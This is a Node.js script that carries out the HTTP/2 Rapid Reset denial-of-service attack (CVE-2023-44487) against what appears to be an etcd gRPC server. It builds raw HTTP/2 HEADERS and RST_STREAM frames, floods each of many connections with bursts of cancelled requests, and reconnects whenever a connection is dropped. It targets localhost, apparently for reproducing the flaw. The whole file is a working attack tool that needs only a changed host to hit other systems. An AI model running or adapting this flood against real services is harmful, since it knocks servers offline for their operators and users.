// Rapid reset (CVE-2023-44487) over and over: so many connections, each of which sends requests that it cancels at once until it is hung up on, and
// then connects again. Prints how many connections it made, each second until it is killed.
//
//   node attacker.mjs PORT CONNECTIONS
import { connect } from 'node:net';

const [port, connections] = process.argv.slice(2).map(Number);
const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0', 'latin1');
const text = (value) => Buffer.concat([Buffer.of(value.length), Buffer.from(value)]);
const fields = {
  ':method': 'POST',
  ':scheme': 'http',
  ':path': '/etcdserverpb.KV/Put',
  'content-type': 'application/grpc',
  te: 'trailers',
};
const block = Buffer.concat(Object.entries(fields).flatMap(([name, value]) => [Buffer.of(0), text(name), text(value)]));

function frame(type, flags, id, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
}

/** What a connection sends at once: 400 requests, and their ends. */
const REQUESTS = 400;
const bursts = Array.from({ length: 50 }, (_, burst) =>
  Buffer.concat(
    Array.from({ length: REQUESTS }, (_, i) => {
      const id = 2 * (burst * REQUESTS + i) + 1;
      return Buffer.concat([frame(1, 4, id, block), frame(3, 0, id, Buffer.of(0, 0, 0, 8))]);
    }),
  ),
);

let made = 0;
function attack() {
  let burst = 0;
  const socket = connect(port, '127.0.0.1', () => {
    made++;
    socket.write(preface);
    flood();
  });
  const flood = () => {
    if (socket.destroyed || burst === bursts.length) return void socket.destroy();
    socket.write(bursts[burst++], () => setImmediate(flood));
  };
  socket.on('error', () => undefined).on('close', () => setImmediate(attack));
  socket.resume();
}
for (let i = 0; i < connections; i++) attack();
setInterval(() => {
  console.log(made);
  made = 0;
}, 1000);
